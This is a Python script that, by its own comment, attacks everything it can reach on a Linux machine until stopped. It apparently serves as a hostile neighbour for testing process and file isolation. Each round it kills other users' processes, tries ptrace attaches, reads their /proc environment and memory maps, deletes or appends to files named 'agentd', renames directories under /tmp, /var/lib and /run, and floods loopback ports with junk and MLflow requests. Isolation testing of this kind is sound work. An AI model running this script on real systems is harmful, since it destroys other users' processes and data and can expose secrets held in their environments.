# Attacks everything that it finds on the machine until it is ended: processes, their files and memory, files that it may
# reach, ports of loopback. Prints a line for each round, and what it got.
import ctypes, os, signal, socket, sys, time

libc = ctypes.CDLL(None)
mine = {os.getpid()} | set(map(int, sys.argv[2:]))
until = time.time() + float(sys.argv[1])
uid = os.getuid()


def attempt(what, act):
    try:
        if act():
            print("GOT", what, flush=True)
    except (OSError, ValueError):
        pass


def processes():
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in mine:
            continue
        try:
            owner = os.stat("/proc/" + name).st_uid
        except OSError:
            continue
        if owner != uid:
            yield int(name)


def read(path):
    with open(path, "rb") as file:
        return bool(file.read(1))


def kill(pid):
    os.kill(pid, signal.SIGKILL)
    return True


def of_process(pid):
    attempt("a kill of %d" % pid, lambda: kill(pid))
    attempt("a trace of %d" % pid, lambda: libc.ptrace(16, pid, 0, 0) == 0)
    for part in ("environ", "mem", "maps"):
        attempt("%s of %d" % (part, pid), lambda: part != "mem" and read("/proc/%d/%s" % (pid, part)))
    attempt("the root of %d" % pid, lambda: os.listdir("/proc/%d/root" % pid))


def of_files(top, depth):
    try:
        names, mode = list(os.scandir(top)), os.stat(top).st_mode
    except OSError:
        return
    if mode & 0o1002 == 0o002:
        return  # whoever made it meant it for everybody
    for entry in names:
        try:
            found = entry.stat(follow_symlinks=False)
        except OSError:
            continue
        if found.st_uid == uid:
            continue
        if entry.is_file(follow_symlinks=False) and "agentd" in entry.path and not found.st_mode & 0o002:
            attempt("to write " + entry.path, lambda: open(entry.path, "ab"))
            attempt("to remove " + entry.path, lambda: os.unlink(entry.path) is None)
        elif entry.is_dir(follow_symlinks=False) and depth > 0:
            attempt("to move " + entry.path, lambda: os.rename(entry.path, entry.path + "x") is None)
            of_files(entry.path, depth - 1)


def ports():
    with open("/proc/net/tcp") as table:
        rows = [line.split() for line in table.readlines()[1:]]
    return {int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"}


def of_port(port, held):
    for word in (b"", b"GET /api/2.0/mlflow/runs/get?run_id=x HTTP/1.1\r\nHost: x\r\n\r\n", b"\x16\x03\x01\x00", b"\xff" * 4096):
        with socket.socket() as end:
            end.settimeout(0.2)
            end.connect(("127.0.0.1", port))
            end.sendall(word)
            end.recv(64)
    idle = socket.socket()
    idle.settimeout(0.2)
    idle.connect(("127.0.0.1", port))
    held.append(idle)


rounds = 0
while time.time() < until:
    held = []
    for pid in processes():
        of_process(pid)
    for top in ("/tmp", "/var/tmp", "/var/lib", "/run"):
        of_files(top, 4)
    for port in ports():
        attempt("nothing", lambda: of_port(port, held))
    rounds += 1
    print("round", rounds, flush=True)
    time.sleep(0.1)
